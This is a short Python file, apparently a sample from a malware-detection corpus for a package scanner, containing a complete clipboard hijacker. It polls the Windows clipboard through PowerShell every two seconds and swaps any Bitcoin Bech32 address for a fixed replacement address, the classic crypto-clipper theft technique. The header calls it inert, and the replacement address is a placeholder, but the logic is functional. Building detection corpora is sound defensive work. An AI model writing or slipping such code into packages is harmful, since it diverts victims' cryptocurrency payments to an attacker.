# pkgguard corpus 178 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import subprocess
import time

BECH32 = re.compile(r"^bc1[a-z0-9]{39,59}$")
OURS = "bc1q" + "0" * 38

while True:
    text = subprocess.check_output(["powershell", "-NoProfile", "-Command", "Get-Clipboard"], text=True).strip()
    if BECH32.match(text):
        subprocess.run(["powershell", "-NoProfile", "-Command", "Set-Clipboard -Value " + OURS])
    time.sleep(2)
